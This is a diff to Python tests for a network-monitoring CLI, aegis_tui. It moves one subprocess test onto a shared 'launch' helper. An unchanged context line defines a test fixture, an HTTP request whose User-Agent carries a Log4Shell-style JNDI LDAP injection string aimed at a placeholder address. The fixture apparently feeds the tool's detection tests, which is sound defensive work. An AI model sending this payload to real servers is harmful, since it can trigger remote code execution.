@@ -16,6 +16,7 @@ from aegis_tui.cli import build_parser, main
 from aegis_tui.commands.doctor import examine
 from engine.config import Settings
 from engine.sources.pcapfile import PcapFile
+from tests.aegis_tui.launching import launch
 from tests.factories import conversation, pcap_file
 
 JNDI = b"GET / HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: ${jndi:ldap://198.51.100.7:1389/a}\r\n\r\n"
@@ -168,14 +169,13 @@ def test_doctor_tells_a_state_for_each_ability(capsys: pytest.CaptureFixture[str
 
 
 @pytest.mark.parametrize("words", [["incidents", "--json"], ["report", "INC"], ["config", "show"]], ids=" ".join)
-def test_a_reader_that_is_gone_ends_a_command_quietly(words: list[str], home: Path) -> None:
+def test_a_reader_that_is_gone_ends_a_command_quietly(words: list[str], home: Path, tmp_path: Path) -> None:
     reading, writing = os.pipe()
     os.close(reading)
-    command = [sys.executable, "-m", "aegis_tui", *words]
     buffered = {name: value for name, value in os.environ.items() if name != "PYTHONUNBUFFERED"}
-    done = subprocess.run(command, stdout=writing, stderr=subprocess.PIPE, check=False, timeout=30, env=buffered)
+    done = launch(tmp_path / "live", *words, stdout=writing, timeout=30, env=buffered)
     os.close(writing)
-    assert (done.returncode, done.stderr) == (141, b"")
+    assert (done.returncode, done.stderr) == (141, "")
 
 
 def test_doctor_and_readme_name_one_oldest_kernel(monkeypatch: pytest.MonkeyPatch) -> None:
